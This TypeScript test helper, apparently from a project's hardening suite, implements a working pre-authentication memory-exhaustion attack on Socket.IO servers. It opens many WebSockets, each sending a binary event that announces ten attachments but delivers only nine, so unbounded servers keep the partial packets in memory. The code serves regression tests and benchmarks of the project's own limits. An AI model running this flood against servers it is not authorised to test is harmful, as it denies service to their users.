/**
 * The pre-authentication memory attack (issue 11, docs/hardening.md): raw WebSockets that open an
 * engine.io transport, send the header of a Socket.IO binary event that announces ten attachments,
 * then nine attachments of 64,000 bytes, and never send a Socket.IO CONNECT. socket.io-parser holds
 * an incomplete binary packet's attachments until the last one arrives, so a server without a bound
 * keeps some 576 KB per transport for as long as the transport lives. Used by the signaling and LAN
 * endpoint tests and by `npm run bench`.
 */
import WebSocket from 'ws';

/** Attachments the header announces: socket.io-parser's default maximum. */
export const ANNOUNCED_ATTACHMENTS = 10;
/** Attachments actually sent: one short, so the packet never completes. */
export const SENT_ATTACHMENTS = 9;
/** Each attachment: under the servers' 64 KiB frame bound (`maxHttpBufferSize`). */
export const ATTACHMENT_BYTES = 64_000;

export interface AttackTransport {
  readonly ws: WebSocket;
  /** resolves when the server (or the client) closed the transport, with the close code */
  readonly closed: Promise<number>;
  /** true once the header and every attachment were handed to the kernel */
  sent: boolean;
}

/** The engine.io WebSocket URL of a Socket.IO server at `baseUrl` (`http://host:port`). */
export function transportUrl(baseUrl: string): string {
  return `${baseUrl.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`;
}

/** The engine.io message packet (`4`) holding a Socket.IO BINARY_EVENT (`5`) header with its placeholders. */
export function binaryEventHeader(attachments = ANNOUNCED_ATTACHMENTS): string {
  const placeholders = Array.from({ length: attachments }, (_, num) => ({ _placeholder: true, num }));
  return `45${attachments}-${JSON.stringify(['upload', ...placeholders])}`;
}

/**
 * Opens one transport and, once the server's engine.io `open` packet arrived, sends the header and
 * the attachments. Resolves when the transport is open (or refused: then `closed` is settled too).
 */
export function attackTransport(baseUrl: string): Promise<AttackTransport> {
  const ws = new WebSocket(transportUrl(baseUrl));
  const closed = new Promise<number>((resolve) => {
    ws.once('close', (code) => resolve(code));
    // A refused upgrade (HTTP 403) or a reset: counted as closed.
    ws.once('error', () => resolve(1006));
  });
  const transport: AttackTransport = { ws, closed, sent: false };
  return new Promise((resolve) => {
    void closed.then(() => resolve(transport));
    ws.once('message', () => {
      // The first message is engine.io's `open`; everything after it is the attack.
      const attachment = Buffer.alloc(ATTACHMENT_BYTES, 0x61);
      ws.send(binaryEventHeader());
      for (let i = 0; i < SENT_ATTACHMENTS; i++) {
        ws.send(attachment, (error) => {
          if (!error && i === SENT_ATTACHMENTS - 1) transport.sent = true;
        });
      }
      resolve(transport);
    });
  });
}

/** Opens `count` attacking transports, `parallel` at a time. */
export async function attack(baseUrl: string, count: number, parallel = 50): Promise<AttackTransport[]> {
  const transports: AttackTransport[] = [];
  for (let i = 0; i < count; i += parallel) {
    const batch = await Promise.all(Array.from({ length: Math.min(parallel, count - i) }, () => attackTransport(baseUrl)));
    transports.push(...batch);
  }
  return transports;
}

/** Closes every transport the attack still holds. */
export function endAttack(transports: readonly AttackTransport[]): void {
  for (const { ws } of transports) ws.terminate();
}
